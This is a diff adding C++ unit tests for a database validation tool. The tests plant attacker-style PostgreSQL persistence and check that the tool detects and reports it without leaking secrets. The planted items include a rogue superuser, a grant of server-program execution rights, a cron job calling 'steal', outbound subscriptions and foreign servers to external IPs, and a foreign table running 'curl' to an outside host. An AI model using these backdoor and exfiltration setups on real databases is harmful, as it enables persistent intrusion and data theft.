@@ -46,6 +46,23 @@ class ValidateDatabase : public testing::Test {
     return outcome ? "it holds: " + outcome->summary : outcome.error().text();
   }
 
+  // As pg_cron keeps them. Here is only the table, as after a restore.
+  void add_job() {
+    server->sql("postgres", "CREATE SCHEMA cron");
+    server->sql(
+        "postgres",
+        "CREATE TABLE cron.job (jobid bigserial, schedule text, command text, nodename text, nodeport int, database "
+        "text, username text, active boolean, jobname name)");
+    server->sql("postgres",
+                "INSERT INTO cron.job VALUES (7, '* * * * *', 'SELECT steal(''token-in-a-job'')', 'localhost', 5432, "
+                "'shop', 'app', true, 'tick')");
+    server->sql(
+        "postgres",
+        "INSERT INTO pg_extension SELECT 99999, 'pg_cron', 10, oid, false, '1.6' FROM pg_namespace WHERE nspname = "
+        "'cron'");
+  }
+  void ask_as(const std::string& user) { std::get<PostgresService>(*world.plan.services.find("database")).user = user; }
+
   asio::io_context context;
   TestWorld world;
   std::unique_ptr<TestPostgres> server;
@@ -111,6 +128,101 @@ TEST_F(ValidateDatabase, FindsDamagedPages) {
   auto outcome = world.apply(validate_database_action(), R"({"service":"database"})");
   ASSERT_FALSE(outcome.has_value());
   EXPECT_THAT(outcome.error().text(), HasSubstr("users_pkey"));
+}
+
+TEST_F(ValidateDatabase, NamesWhatAnAttackerPlanted) {
+  server->sql("postgres", "CREATE ROLE app LOGIN");
+  server->sql("postgres", "CREATE ROLE helper");
+  ASSERT_TRUE(take().has_value());
+  server->sql("postgres", "CREATE ROLE mallory SUPERUSER LOGIN PASSWORD 'known-to-mallory'");
+  server->sql("postgres", "GRANT pg_execute_server_program TO helper");
+  server->sql("postgres", "GRANT helper TO app");
+  server->sql("postgres", "ALTER ROLE app IN DATABASE shop SET search_path = evil, public");
+  server->sql("postgres", "ALTER DATABASE shop SET shop.signing_key = 'a-secret-of-the-shop'");
+  server->sql("shop", "CREATE FUNCTION grip() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'");
+  server->sql("shop", "CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION grip()");
+  server->sql("shop", "CREATE FUNCTION back() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'");
+  server->sql("shop",
+              "CREATE SUBSCRIPTION leak CONNECTION 'password=''p host=no'' host=203.0.113.7' PUBLICATION everything"
+              " WITH (connect = false)");
+  server->sql("shop", "CREATE FOREIGN DATA WRAPPER w");
+  server->sql("shop", "CREATE SERVER far FOREIGN DATA WRAPPER w OPTIONS (host '203.0.113.8', password 'of-far')");
+  server->sql("shop", "CREATE USER MAPPING FOR app SERVER far OPTIONS (password 'of-app')");
+  // Jobs stand in another database than the data, as they usually do.
+  add_job();
+  server->sql("postgres", "CREATE SCHEMA pgagent");
+  server->sql("postgres", "CREATE TABLE pgagent.pga_job (jobid int, jobname text, jobenabled boolean)");
+  server->sql(
+      "postgres",
+      "CREATE TABLE pgagent.pga_jobstep (jstid int, jstjobid int, jstname text, jstenabled boolean, jstkind char, "
+      "jstcode text, jstconnstr text, jstdbname name)");
+  server->sql("postgres", "INSERT INTO pgagent.pga_job VALUES (3, 'sweep', true)");
+  server->sql("postgres", "INSERT INTO pgagent.pga_jobstep VALUES (1, 3, 'one', true, 's', 'SELECT 1', '', 'shop')");
+  server->sql("shop", "CREATE FOREIGN TABLE told (line text) SERVER far OPTIONS (program 'curl 203.0.113.9')");
+  server->sql("shop", "CREATE FUNCTION odd(int) RETURNS int LANGUAGE internal AS 'int4abs'");
+  std::string text = failure();
+  EXPECT_THAT(text, HasSubstr("role mallory: is new, with superuser, login"));
+  EXPECT_THAT(text, HasSubstr("say access: false in this step"));
+  EXPECT_THAT(text, HasSubstr("role app: was given member of pg_execute_server_program; it had login"));
+  EXPECT_THAT(text, HasSubstr("role helper: was given member of pg_execute_server_program"));
+  EXPECT_THAT(text, HasSubstr("setting search_path of role app in database shop: is new: 'evil, public'"));
+  EXPECT_THAT(text, HasSubstr("setting shop.signing_key in database shop: is new"));
+  EXPECT_THAT(text, HasSubstr("event trigger watch in database shop: is new: on ddl_command_end, runs public.grip"));
+  EXPECT_THAT(text, HasSubstr("definer function public.back() in database shop: is new: acts as superuser postgres"));
+  EXPECT_THAT(text,
+              HasSubstr("subscription leak in database shop: is new: of everything, not enabled, reaches 203.0.113.7"));
+  EXPECT_THAT(text, HasSubstr("foreign server far in database shop: is new: of w, reaches 203.0.113.8"));
+  EXPECT_THAT(text, HasSubstr("user mapping app at far in database shop: is new"));
+  EXPECT_THAT(text, HasSubstr("job tick of app in database postgres: is new: at * * * * * in database shop"));
+  EXPECT_THAT(text, HasSubstr("job sweep, number 3 of pgagent in database postgres: is new: enabled"));
+  EXPECT_THAT(text, HasSubstr("foreign table public.told in database shop: is new: runs a program"));
+  EXPECT_THAT(text, HasSubstr("untrusted function public.odd(integer) in database shop: is new: in internal"));
+  // The plan may say that all of this is told and fails nothing; without a profile it is told in any case.
+  auto told = check(R"(,"access":false)");
+  ASSERT_TRUE(told.has_value()) << told.error().text();
+  EXPECT_THAT(told->summary, HasSubstr("role mallory: is new"));
+  auto alone = world.apply(validate_database_action(), R"({"service":"database"})");
+  ASSERT_TRUE(alone.has_value()) << alone.error().text();
+  EXPECT_THAT(alone->summary, HasSubstr("superusers: mallory, postgres"));
+  EXPECT_THAT(alone->summary, HasSubstr("jobs: tick of app in postgres"));
+  // Taken anew it is the good day, and nothing of it is a secret.
+  ASSERT_TRUE(take().has_value());
+  EXPECT_TRUE(check().has_value()) << failure();
+  std::ifstream file(profile);
+  std::string kept{std::istreambuf_iterator<char>(file), {}};
+  EXPECT_THAT(kept, HasSubstr("tick of app"));
+  for (const char* secret :
+       {"known-to-mallory", "SCRAM", "a-secret-of-the-shop", "host=no", "of-far", "of-app", "token-in-a-job"})
+    EXPECT_THAT(kept + text + alone->summary + to_text(alone->data), Not(HasSubstr(secret)));
+  // An older profile knows none of it, and nothing is said against it.
+  std::string older = kept.substr(0, kept.find("\"access\""));
+  older.erase(older.rfind(','));
+  std::ofstream(profile) << older << "}";
+  auto held = check();
+  ASSERT_TRUE(held.has_value()) << held.error().text();
+  EXPECT_THAT(held->summary, HasSubstr("superusers: mallory, postgres"));
+}
+
+TEST_F(ValidateDatabase, CallsNoJobNewThatTheRoleOfAGoodDayCouldNotSee) {
+  add_job();
+  server->sql("postgres", "CREATE ROLE app LOGIN");
+  server->sql("postgres", "GRANT pg_read_all_data TO app");
+  server->sql("postgres", "ALTER TABLE cron.job ENABLE ROW LEVEL SECURITY");
+  ask_as("app");
+  auto taken = take();
+  ASSERT_TRUE(taken.has_value()) << taken.error().text();
+  auto again = check();
+  ASSERT_TRUE(again.has_value()) << again.error().text();
+  EXPECT_THAT(again->summary, HasSubstr("every job in database postgres: could not be looked at"));
+  // A copy is asked as superuser.
+  ask_as("postgres");
+  auto more = check();
+  ASSERT_TRUE(more.has_value()) << more.error().text();
+  EXPECT_THAT(more->summary, HasSubstr("job tick of app in database postgres: could not be looked at then"));
+  // The other way round something is hidden that was seen.
+  ASSERT_TRUE(take().has_value());
+  ask_as("app");
+  EXPECT_THAT(failure(), HasSubstr("every job in database postgres: could not be looked at"));
 }
 
 TEST_F(ValidateDatabase, SaysWhatIsWrongWithItsParametersAndItsProfile) {
